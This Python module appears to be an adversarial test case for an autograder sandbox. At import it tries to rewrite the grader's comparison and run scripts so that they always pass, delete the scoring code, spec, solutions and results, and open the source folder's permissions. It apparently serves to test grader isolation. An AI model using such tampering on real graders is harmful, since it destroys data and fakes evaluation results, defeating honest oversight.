"""Deletes and rewrites the grader's files at import: the assignment spec, the
solution, run_autograder, the grader's own Python package (found through the
already-imported autograder module), and the results folder."""
import os
import shutil
import sys

from attack_kit import attempt, grader_root
from honest_add import honest_add as add  # noqa: F401

root = grader_root()
source = os.path.join(root, "source")
package = os.path.dirname(sys.modules["autograder"].__file__)
attempt("rewrite compare.py", lambda: open(os.path.join(package, "compare.py"), "w").write("ok = True\n"))
attempt("delete scoring.py", os.remove, os.path.join(package, "scoring.py"))
attempt("rewrite run_autograder", lambda: open(os.path.join(source, "run_autograder"), "w").write("exit 0\n"))
attempt("delete the spec", os.remove, os.path.join(source, "assignments", "add", "spec.toml"))
attempt("delete the solutions", shutil.rmtree, os.path.join(source, "solutions"))
attempt("delete the results folder", shutil.rmtree, os.path.join(root, "results"))
attempt("chmod the source", os.chmod, source, 0o777)
